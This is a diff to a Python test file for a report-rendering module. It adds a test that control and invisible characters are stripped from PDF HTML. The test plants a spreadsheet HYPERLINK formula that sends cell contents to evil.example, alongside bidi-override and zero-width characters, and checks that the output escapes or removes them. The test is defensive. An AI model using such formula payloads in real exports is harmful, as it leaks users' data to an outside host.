@@ -8,6 +8,7 @@ actions added after it never change what the report says.
 from __future__ import annotations
 
 import datetime as dt
+import re
 
 import pytest
 
@@ -15,6 +16,7 @@ from actions import services as plan_services
 from actions.models import FindingKind, Status
 from reporting import content as c
 from reporting import selectors, services
+from reporting.pdf import render_html
 from reporting.presenter import present
 from tests.factories import ActionFactory
 
@@ -211,6 +213,18 @@ def test_the_pdf_names_a_shared_action_once_in_full_and_refers_to_it_after(two_w
     assert amber_md.rows == []
     assert [(r.ref, code) for r, code in amber_md.shown_under] == [("AM1", "DoN")]
     assert amber_md.count == 1
+
+
+def test_the_pdf_holds_no_control_or_invisible_characters_typed_into_the_plan(two_weeks):
+    report, _ = two_weeks
+    document = selectors.report_document(report)
+    row = next(a for a in document["content"]["actions"] if a["ref"] == "RD1")
+    row["requirement"] = '\x01=HYPERLINK("http://evil.example/?"&A1,"click")\u202e'
+    row["narrative"] = "Equipment\x07 not\u200b funded.\ufeff"
+    html = render_html(document)
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u200b\u202a-\u202e\ufeff]", html)
+    assert "Equipment not funded." in html
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in html
 
 
 def test_edits_after_the_lock_never_change_the_report(two_weeks, pmo, other_lead):
